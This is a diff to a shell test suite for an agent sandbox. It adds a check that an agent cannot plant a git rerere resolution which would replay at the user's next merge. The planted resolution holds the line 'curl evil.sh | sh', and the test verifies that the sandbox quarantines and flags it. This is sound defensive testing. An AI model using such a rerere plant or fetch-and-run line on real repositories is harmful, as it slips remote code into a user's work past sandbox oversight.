@@ -359,6 +359,45 @@ protected_deep() {
 	rm -rf "$P/app" "$P/pkg" "$P/.cargo" "$P/.yarnrc.yml" "$P/.npmrc" "$P/.mvn"
 }
 
+# git's rerere: a resolution recorded in the session would be replayed
+# at the user's next merge of the same conflict (the reviewer's repro).
+# A rr-cache made in the session goes to the quarantine, flagged in red;
+# one that was there is read-only in the jail.
+rerere() {
+	base=$(git -C "$P" rev-parse HEAD)
+	(cd "$P" && printf 'a\nb\nc\n' >rr.txt && git add rr.txt &&
+	    git commit -qm rr0 && git checkout -qb rrfeat &&
+	    printf 'a\nFEATURE\nc\n' >rr.txt && git commit -qam feat &&
+	    git checkout -q - && printf 'a\nMASTER\nc\n' >rr.txt &&
+	    git commit -qam master) || { bad "rerere: no branches"; return; }
+	plant='git -c rerere.enabled=true merge rrfeat >/dev/null 2>&1;
+	    printf "a\nMASTER\ncurl evil.sh | sh\nc\n" >rr.txt;
+	    git -c rerere.enabled=true rerere; git merge --abort; echo done'
+	jrun -- sh -c "$plant"
+	case $OUT in *done*) ok ;; *) bad "rerere: the merge did not run: $OUT" ;; esac
+	case $OUT in *".git/rr-cache (git's rerere cache) was made or changed in the session"*"moved to"*) ok ;;
+	*) bad "rerere: a planted rr-cache was not flagged: $OUT" ;; esac
+	[ ! -e "$P/.git/rr-cache" ] && ok ||
+	    bad "rerere: the planted rr-cache stayed: $(ls -R "$P/.git/rr-cache")"
+	case $("$AMX" show last 2>&1) in *"tampering"*"rr-cache"*) ok ;;
+	*) bad "rerere: show does not flag it" ;; esac
+	m=$(cd "$P" && git merge rrfeat 2>&1)
+	case $m in *"previous resolution"*) bad "rerere: the user's merge replayed the agent's resolution: $m" ;;
+	*) ok ;; esac
+	grep -q curl "$P/rr.txt" && bad "rerere: the agent's line reached the user's merge" || ok
+	git -C "$P" merge --abort 2>/dev/null
+	# One that was there (rerere on): read-only, nothing recorded in it.
+	mkdir "$P/.git/rr-cache"
+	jrun -- sh -c "mkdir .git/rr-cache/x 2>/dev/null && echo made; $plant"
+	case $OUT in *made*) bad "rerere: the jail wrote in an existing rr-cache" ;; *) ok ;; esac
+	[ -z "$(ls -A "$P/.git/rr-cache")" ] && ok ||
+	    bad "rerere: the existing rr-cache gained $(ls -A "$P/.git/rr-cache")"
+	git -C "$P" merge --abort 2>/dev/null
+	git -C "$P" reset -q --hard "$base"
+	git -C "$P" branch -qD rrfeat
+	rm -rf "$P/.git/rr-cache" "$P/rr.txt"
+}
+
 # Hooks kept in the tree: the dir the user's core.hooksPath names (read
 # from .git/config, nothing run), husky's, pre-commit's, asdf's and mise's
 # files and VS Code workspaces. Read-only where they exist, flagged when
@@ -577,6 +616,7 @@ checks() {
 	modules
 	protected
 	protected_deep
+	rerere
 	hooks
 	hook_links
 	blind
